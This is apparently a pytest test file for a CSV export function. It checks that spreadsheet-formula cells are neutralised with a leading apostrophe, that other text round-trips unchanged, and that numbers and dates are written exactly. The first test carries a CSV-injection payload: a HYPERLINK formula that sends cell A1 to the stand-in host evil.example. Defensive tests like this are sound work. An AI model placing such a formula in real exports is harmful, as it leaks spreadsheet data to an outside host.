"""Cells of a CSV file: exact, and never a formula (row 21)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spendmeter_rollups.csv_text import csv_text

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("begin", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_shown_instead(begin: str) -> None:
    text = f'{begin}HYPERLINK("http://evil.example?"&A1,"sum")'
    ((cell,),) = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
    assert cell == f"'{text}"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=2))
def test_any_other_text_comes_back_as_it_was(cells: list[str]) -> None:
    (back,) = csv.reader(io.StringIO(csv_text([cells]), newline=""))
    assert back == [f"'{cell}" if cell.startswith(FORMULAS) else cell for cell in cells]


def test_numbers_keep_their_sign_and_all_their_digits() -> None:
    moment = datetime(2026, 11, 22, 9, tzinfo=UTC)
    row = [Decimal("-0.000000000001"), -3, None, True, moment, Decimal("1E+3")]
    assert csv_text([row]) == "-0.000000000001,-3,,true,2026-11-22T09:00:00+00:00,1000\r\n"
